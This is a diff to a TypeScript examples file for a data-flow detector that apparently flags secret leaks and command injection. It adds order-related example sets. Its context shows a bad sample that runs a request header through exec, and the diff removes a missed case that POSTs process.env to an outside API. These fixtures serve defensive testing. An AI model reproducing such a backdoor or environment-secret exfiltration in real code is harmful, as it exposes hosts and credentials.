@@ -4,6 +4,7 @@ import { throughBundles } from './data-flow.bundles.examples.ts';
 import { throughClients } from './data-flow.clients.examples.ts';
 import { throughFiles } from './data-flow.files.examples.ts';
 import { ofMembers } from './data-flow.members.examples.ts';
+import { ofOrders } from './data-flow.orders.examples.ts';
 import { throughPrograms } from './data-flow.programs.examples.ts';
 import { inPython } from './data-flow.python.examples.ts';
 
@@ -195,6 +196,7 @@ export const examples: DetectorExamples = {
     ...ofMembers.bad,
     ...throughClients.bad,
     ...throughFiles.bad,
+    ...ofOrders.bad,
     ...throughPrograms.bad,
     {
       code: "import { createServer } from 'node:http'; import { exec } from 'node:child_process'; createServer(({ headers }, response) => { exec(String(headers['x-run']), () => response.end()); }).listen(1);",
@@ -276,17 +278,13 @@ export const examples: DetectorExamples = {
       code: "const env = { ...process.env }; const other = { a: 1 }; fetch('https://api.example', { method: 'POST', body: JSON.stringify(other) });",
       why: 'another object is sent',
     },
-    {
-      code: "globalThis.kept = process.env; fetch('https://api.example', { method: 'POST', body: JSON.stringify(globalThis.kept) });",
-      why: 'the way through a global is not followed',
-      missed: true,
-    },
     ...throughBundles.good,
     ...inPython.good,
     ...inAnswers.good,
     ...ofMembers.good,
     ...throughClients.good,
     ...throughFiles.good,
+    ...ofOrders.good,
     ...throughPrograms.good,
   ],
 };
